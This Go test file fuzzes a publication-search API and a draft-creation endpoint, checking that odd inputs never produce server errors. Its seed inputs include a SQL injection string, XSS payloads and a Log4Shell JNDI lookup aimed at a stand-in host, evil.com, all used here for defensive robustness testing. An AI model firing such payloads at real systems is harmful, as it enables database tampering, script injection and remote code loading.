package httpserver

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
)

// FuzzSearchPublicationsParams checks that arbitrary query parameters are
// either served or rejected, never answered with a server error.
func FuzzSearchPublicationsParams(f *testing.F) {
	f.Add("quantum computing", "Physics", "5")
	f.Add("", "", "")
	f.Add("'; DROP TABLE papers; --", "Computer Science", "1 OR 1=1")
	f.Add("<script>alert('xss')</script>", "<svg/onload=alert(1)>", "-1")
	f.Add("query\x00with\x00nulls", "\u202eevil\u202c", "99999999999999999999")
	f.Add(strings.Repeat("a", 501), strings.Repeat("b", 101), "0")
	f.Add(string([]byte{0xfe, 0xff}), "${jndi:ldap://evil.com/a}", "1e3")

	s := newTestServer(&mockSearcher{}, nil)

	f.Fuzz(func(t *testing.T, q, dom, limit string) {
		params := url.Values{}
		params.Set("query", q)
		params.Set("domain", dom)
		params.Set("limit", limit)

		req := httptest.NewRequest(http.MethodGet, "/api/v1/publications?"+params.Encode(), nil)
		rr := httptest.NewRecorder()
		s.Handler().ServeHTTP(rr, req)

		if rr.Code != http.StatusOK && rr.Code != http.StatusBadRequest {
			t.Errorf("query=%q domain=%q limit=%q: status %d", q, dom, limit, rr.Code)
		}
	})
}

// FuzzCreateDraftBody checks that arbitrary request bodies never panic the
// draft handler.
func FuzzCreateDraftBody(f *testing.F) {
	f.Add([]byte(`{"topic":"valid topic"}`))
	f.Add([]byte(`{}`))
	f.Add([]byte(`{"topic":null}`))
	f.Add([]byte(`{"topic":123}`))
	f.Add([]byte(`{"topic":"a","max_tokens":-5}`))
	f.Add([]byte(`not json at all`))
	f.Add([]byte{0x00})
	f.Add([]byte{0xff, 0xfe})
	f.Add([]byte(`{` + strings.Repeat(`"k":`, 100) + `"v"}`))

	s := newTestServer(&mockSearcher{}, &mockDraftGenerator{})

	f.Fuzz(func(t *testing.T, body []byte) {
		req := httptest.NewRequest(http.MethodPost, "/api/v1/drafts", bytes.NewReader(body))
		rr := httptest.NewRecorder()
		s.Handler().ServeHTTP(rr, req)

		if rr.Code >= http.StatusInternalServerError {
			t.Errorf("body %q: status %d", body, rr.Code)
		}
	})
}
